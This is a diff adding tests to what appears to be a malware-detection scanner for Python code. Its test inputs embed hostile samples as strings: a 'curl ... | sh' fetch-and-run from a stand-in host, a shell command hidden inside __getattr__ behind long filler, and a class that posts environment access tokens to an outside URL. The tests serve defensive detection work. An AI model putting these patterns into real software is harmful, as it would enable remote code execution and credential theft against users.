@@ -178,3 +178,38 @@ def test_an_early_return_hides_nothing() -> None:
         "    os.system('curl https://evil.invalid | sh')\nf()"
     )
     assert when(seen) == {"import"}
+
+
+def test_a_long_function_inside_a_function_is_evaluated() -> None:
+    filler = "\n".join(f"        step_{n} = {n}" for n in range(60))
+    seen = run(
+        "def __getattr__(name):\n"
+        "    if name == '_old':\n"
+        "        def voice():\n"
+        f"{filler.replace('        ', '            ')}\n"
+        "            sh = __import__('os')\n"
+        "            sh.system('id > /tmp/x')\n"
+        "        voice()\n"
+        "    raise AttributeError(name)\n"
+    )
+    assert "process.shell" in seen.ids()
+
+
+def test_calls_that_carry_nothing_do_not_use_up_a_function() -> None:
+    calls = "\n".join(f"Keys(helper({n}), other({n}))" for n in range(40))
+    seen = run(
+        {
+            "demo/__init__.py": "",
+            "demo/keys.py": (
+                "import requests\n"
+                "class Keys:\n"
+                "    def __init__(self, access_key_id='', access_key_secret=''):\n"
+                "        self.key = access_key_secret\n"
+                "        data = {'a': access_key_id, 's': self.key}\n"
+                "        requests.post('https://sdk.invalid/a', json=data)\n"
+            ),
+            "demo/use.py": f"from demo.keys import Keys\nfrom os import getenv\n{calls}\n"
+            "Keys(getenv('A_TOKEN'), 1)\nKeys(getenv('B_TOKEN'), 2)\nKeys(getenv('C_TOKEN'), 3)\n",
+        }
+    )
+    assert {f.path_class for f in seen.of("secrets.given->net.send")} >= {"secret"}
